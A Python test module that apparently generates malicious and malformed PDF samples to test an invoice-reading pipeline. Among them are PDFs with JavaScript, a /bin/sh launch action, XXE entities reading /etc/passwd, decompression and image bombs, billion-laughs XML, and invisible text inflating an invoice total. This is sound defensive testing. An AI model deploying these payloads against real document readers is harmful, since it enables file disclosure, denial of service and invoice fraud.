"""PDFs that act, lie, hide, never end or are no PDF behind their first line."""

import zlib
from collections.abc import Iterator
from random import Random

import fpdf

from tests.gateways.reading.files import pdf_of, pdf_that_acts, pdf_that_never_ends
from tests.samples.bad.case import (
    BROKEN,
    ENCRYPTED,
    LINES,
    NOTHING,
    PIXELS,
    READ,
    TIMEOUT,
    Case,
    case,
    good,
    paper,
)
from tests.samples.bad.electronic import cii
from tests.samples.bad.pdfs import drawn, locked, scan, sheet, text
from tests.samples.bad.strangers import LAUGHS

# A listener of the harness hears whoever comes.
HOME = "http://127.0.0.1:{port}"


def cases(random: Random, port: int = 9) -> Iterator[Case]:
    yield from locked_ones()
    yield from acting(HOME.format(port=port))
    yield from hiding()
    yield from broken(random)
    yield from endless()
    yield from data_inside()


def locked_ones() -> Iterator[Case]:
    for method in ("RC4", "AES_128", "AES_256"):
        yield case(f"password-{method.lower()}.pdf", locked(fpdf.enums.EncryptionMethod[method], "u"), ENCRYPTED)
    yield case(
        "unknown-lock.pdf",
        drawn().replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt<</Filter/Mine/V 9>>"),
        ENCRYPTED,
        BROKEN,
    )


def acting(home: str) -> Iterator[Case]:
    yield case("acts-on-an-empty-page.pdf", pdf_that_acts(), NOTHING, acts=True)
    actions = {
        "javascript": f"<</S/JavaScript/JS(app.launchURL\\('{home}/js'\\); while\\(true\\){{}})>>",
        "launch": "<</S/Launch/F(/bin/sh)/Unix<</F(touch started)>>>>",
        "address": f"<</S/URI/URI({home}/uri)>>",
        "elsewhere": f"<</S/GoToR/F({home}/far.pdf)/D[0/Fit]>>",
        "submit": f"<</S/SubmitForm/F<</FS/URL/F({home}/submit)>>/Flags 4>>",
        "import": f"<</S/ImportData/F({home}/data.fdf)>>",
        "thread": f"<</S/Thread/F({home}/thread.pdf)/D 0>>",
        "sound": f"<</S/Sound/Sound<</F({home}/sound)/R 8000>>>>",
        "movie": f"<</S/Rendition/R<</S/MR/C<</S/MCD/D({home}/movie)>>>>/OP 0>>",
    }
    for name, action in actions.items():
        catalog = (
            f"/OpenAction{action}/AA<</WC{action}/DS{action}/WP{action}>>/Names<</JavaScript<</Names[(a){action}]>>>>"
        )
        content = drawn(
            catalog=catalog,
            page=f"/AA<</O{action}/C{action}>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 420 380]/A{action}>>]",
        )
        yield case(f"acts-{name}.pdf", content, READ, shown=True, acts=True)
    field = "<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(1)/Rect[300 20 400 50]/AA<</F{0}/K{0}/C{0}/V{0}>>>>".format(
        actions["javascript"]
    )
    form = "/AcroForm<</Fields[6 0 R]/CO[6 0 R]/NeedAppearances true/DA(/F 12 Tf 0 g)>>"
    yield case(
        "acts-in-a-form.pdf", drawn(catalog=form, page="/Annots[6 0 R]", objects=(field,)), READ, shown=True, acts=True
    )
    outside = f"<</Length 0/F<</FS/URL/F({home}/stream)>>>>\nstream\n\nendstream"
    yield case("content-elsewhere.pdf", drawn(page="/Thumb 6 0 R", objects=(outside,)), READ, shown=True, acts=True)
    picture = "<</Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/Length 0/F(file:///etc/passwd)>>\nstream\n\nendstream"
    yield case("picture-elsewhere.pdf", drawn(more="/I Do", objects=(picture,)), READ, shown=True, acts=True)
    xfa = f"<</Length 90>>\nstream\n<!DOCTYPE x [<!ENTITY e SYSTEM '{home}/xxe'>]><xdp:xdp>&e;</xdp:xdp>\nendstream"
    yield case(
        "form-data-elsewhere.pdf",
        drawn(catalog="/AcroForm<</Fields[]/XFA 6 0 R>>", objects=(xfa,)),
        READ,
        shown=True,
        acts=True,
    )


def hiding() -> Iterator[Case]:
    """Text that says 9,999.00 where the page says 120.00; the page must be believed, or the total be doubtful."""
    lie = "(Total TTC 9 999,00) Tj"
    for name, more in {
        "white": f"BT 1 1 1 rg /F 20 Tf 1 0 0 1 30 40 Tm {lie} ET",
        "no-ink": f"BT 3 Tr /F 20 Tf 1 0 0 1 30 40 Tm {lie} ET",
        "off-the-page": f"BT /F 20 Tf 1 0 0 1 30 -400 Tm {lie} ET",
        "tiny": f"BT /F 0.2 Tf 1 0 0 1 30 40 Tm {lie} ET",
        "covered": f"BT /F 20 Tf 1 0 0 1 30 40 Tm {lie} ET 1 1 1 rg 0 0 420 70 re f",
        "cut-away": f"q 0 0 1 1 re W n BT /F 20 Tf 1 0 0 1 30 40 Tm {lie} ET Q",
    }.items():
        yield good(f"hides-{name}.pdf", drawn(more=more))
    document = fpdf.FPDF()
    document.add_page()
    document.image(paper(), 0, 0, 210)
    document.set_font("Helvetica", size=16)
    document.text_mode = fpdf.TextMode.INVISIBLE
    for at, line in enumerate((*LINES[:4], "Total HT 8 332,50", "TVA 20% 1 666,50", "Total TTC 9 999,00")):
        document.text(15, 20 + 22 * at, line)
    yield good("scan-with-a-lie.pdf", bytes(document.output()))


def broken(random: Random) -> Iterator[Case]:
    whole = text()
    for share in (10, 50, 90):
        yield case(f"cut-{share}.pdf", whole[: len(whole) * share // 100], BROKEN, READ, NOTHING)
    yield case("first-line-only.pdf", b"%PDF-1.7\n", BROKEN)
    yield case("no-pages.pdf", pdf_of("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>"), BROKEN)
    yield case(
        "claims-pages.pdf", pdf_of("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 99999>>"), BROKEN
    )
    yield case("no-root.pdf", pdf_of("<</Type/Nothing>>"), BROKEN)
    yield case("root-of-itself.pdf", pdf_of("<</Type/Catalog/Pages 1 0 R>>"), BROKEN, NOTHING)
    yield case(
        "child-of-itself.pdf",
        pdf_of("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R]/Count 1>>"),
        BROKEN,
        NOTHING,
    )
    circle = pdf_of(
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Kids[3 0 R]/Count 2>>",
        "<</Type/Pages/Kids[2 0 R]/Count 2/Parent 2 0 R>>",
    )
    yield case("circle.pdf", circle, BROKEN, NOTHING)
    yield case("length-of-itself.pdf", drawn().replace(b"/Length ", b"/Length 4 0 R/L "), BROKEN, NOTHING, READ)
    yield case("deep-list.pdf", drawn(catalog="/Deep" + "[" * 50_000 + "]" * 50_000), BROKEN, READ)
    yield case("deep-table.pdf", drawn(catalog="/Deep" + "<</A" * 50_000 + " 1" + ">>" * 50_000), BROKEN, READ)
    yield case("previous-tables.pdf", drawn().replace(b"/Root", b"/Prev 15/Root"), READ, BROKEN, shown=True)
    body = bytearray(whole)
    for _ in range(300):
        body[random.randrange(200, len(body))] = random.randrange(256)
    yield case("riddled.pdf", bytes(body), BROKEN, READ, NOTHING)
    yield case("objects-in-a-stream.pdf", objects_in_a_stream(), READ, shown=True)


def objects_in_a_stream() -> bytes:
    """The same page as newer programs write it: objects packed together, the table a stream of its own."""
    rows = "".join(f"1 0 0 1 30 {340 - 40 * at} Tm ({line}) Tj " for at, line in enumerate(LINES))
    content = zlib.compress(f"BT /F 20 Tf {rows}ET".encode())
    packed = [
        (1, "<</Type/Catalog/Pages 2 0 R>>"), (2, "<</Type/Pages/Kids[3 0 R]/Count 1>>"),
        (3, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 420 380]/Resources<</Font<</F 5 0 R>>>>/Contents 4 0 R>>"),
        (5, "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"),
    ]  # fmt: skip
    index, bodies, at = "", "", 0
    for number, body in packed:
        index += f"{number} {at} "
        bodies += body + " "
        at = len(bodies)
    inside = zlib.compress((index + bodies).encode())
    out = b"%PDF-1.5\n"
    fourth = len(out)
    out += b"4 0 obj\n<</Filter/FlateDecode/Length %d>>\nstream\n" % len(content) + content + b"\nendstream\nendobj\n"
    sixth = len(out)
    head = b"6 0 obj\n<</Type/ObjStm/N 4/First %d/Filter/FlateDecode/Length %d>>\nstream\n" % (len(index), len(inside))
    out += head + inside + b"\nendstream\nendobj\n"
    seventh = len(out)
    rows_of_table = [
        (0, 0, 255),
        (2, 6, 0),
        (2, 6, 1),
        (2, 6, 2),
        (1, fourth, 0),
        (2, 6, 3),
        (1, sixth, 0),
        (1, seventh, 0),
    ]
    table = b"".join(bytes([kind]) + place.to_bytes(3, "big") + bytes([last]) for kind, place, last in rows_of_table)
    out += b"7 0 obj\n<</Type/XRef/Size 8/W[1 3 1]/Root 1 0 R/Length %d>>\nstream\n" % len(table) + table
    return out + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % seventh


def endless() -> Iterator[Case]:
    given_up = (TIMEOUT, BROKEN, PIXELS)
    yield case("forms-in-forms.pdf", pdf_that_never_ends(), *given_up)
    strokes = "0 0 m 420 380 l S " * 300_000
    yield case("a-million-strokes.pdf", drawn(more=strokes), *given_up, READ)
    squeezed = zlib.compress(zlib.compress(bytes(300_000_000), 9), 9)
    bomb = b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>\nstream\n" % len(squeezed)
    yield case(
        "content-bomb.pdf",
        replaced(drawn(page="/Contents 6 0 R", objects=("BOMB",)), bomb + squeezed),
        *given_up,
        NOTHING,
        READ,
    )
    zeros = zlib.compress(bytes(60_000_000), 9)
    image = b"<</Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB"
    image += b"/Filter/FlateDecode/Length %d>>\nstream\n" % len(zeros)
    huge = drawn(more="q 420 0 0 380 0 0 cm /I Do Q", objects=("BOMB",))
    huge = huge.replace(b"/Resources<<", b"/Resources<</XObject<</I 6 0 R>>")
    yield case("picture-bomb.pdf", replaced(huge, image + zeros), *given_up, READ, NOTHING)
    for name, kind in (
        ("jbig2", b"JBIG2Decode"),
        ("fax", b"CCITTFaxDecode"),
        ("jpx", b"JPXDecode"),
        ("dct", b"DCTDecode"),
    ):
        odd = (
            b"<</Type/XObject/Subtype/Image/Width 65000/Height 65000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/%s"
            % kind
        )
        yield case(
            f"{name}-bomb.pdf",
            replaced(huge, odd + b"/Length 900>>\nstream\n" + b"\x97JB2" * 225),
            *given_up,
            READ,
            NOTHING,
        )
    tile = "<</Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.001/YStep 0.001/Length 11>>"
    tiles = drawn(more="/Pattern cs /P scn 0 0 420 380 re f", objects=(f"{tile}\nstream\n0 0 1 1 re f\nendstream",))
    tiles = tiles.replace(b"/Resources<<", b"/Resources<</Pattern<</P 6 0 R>>")
    yield case("tiles.pdf", tiles, *given_up, READ, NOTHING)
    function = "<</FunctionType 4/Domain[0 1 0 1]/Range[0 1 0 1 0 1]/Length 20>>"
    shade = f"<</ShadingType 1/ColorSpace/DeviceRGB/Domain[0 1e9 0 1e9]/Function{function}>>"
    shaded = drawn(more="/S sh", objects=(shade,)).replace(b"/Resources<<", b"/Resources<</Shading<</S 6 0 R>>")
    yield case("shade.pdf", shaded, *given_up, READ, NOTHING)
    yield case("three-hundred-scans.pdf", scan(*[paper()] * 300), READ, shown=True)


def replaced(content: bytes, stream: bytes) -> bytes:
    """A binary stream in the place of an object's text; the table of places is wrong then, and readers mend that."""
    return content.replace(b"BOMB", stream + b"\nendstream")


def data_inside() -> Iterator[Case]:
    fine = cii()
    files = {
        "factur-x.xml": (fine, True),
        "ZUGFeRD-invoice.xml": (fine, True),
        "odd-name.xml": (fine, True),
        "factur-x.xml ": (fine, True),
        "lies.xml": (cii(total="9999.00", excluding="8332.50", tax="1666.50"), True),
        "laughs.xml": (LAUGHS, True),
        "reaches.xml": (b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', True),
        "reaches-far.xml": (b'<!DOCTYPE r SYSTEM "http://127.0.0.1:9/x.dtd"><r/>', True),
        "deep.xml": (b"<a>" * 40_000 + b"</a>" * 40_000, True),
        "wide.xml": (b"<a>" + b"<b/>" * 60_000 + b"</a>", True),
        "cut.xml": (fine[:300], True),
        "empty.xml": (b" ", True),
        "huge.xml": (fine + b" " * 5_000_000, True),
        "wide-letters.xml": (fine.decode().replace("UTF-8", "UTF-16").encode("utf-16"), True),
        "no-xml.xml": (b"\x89PNG", True),
    }
    for name, (content, shown) in files.items():
        document = sheet()
        document.embed_file(bytes=content, basename=name)
        called = name.strip().replace(".xml", "").lower() + (" space" if name.endswith(" ") else "")
        yield case(f"carries-{called}.pdf", bytes(document.output()), READ, shown=shown, acts=b"DOCTYPE" in content)
    paired = scan(paper())
    yield good("scan-without-data.pdf", paired)
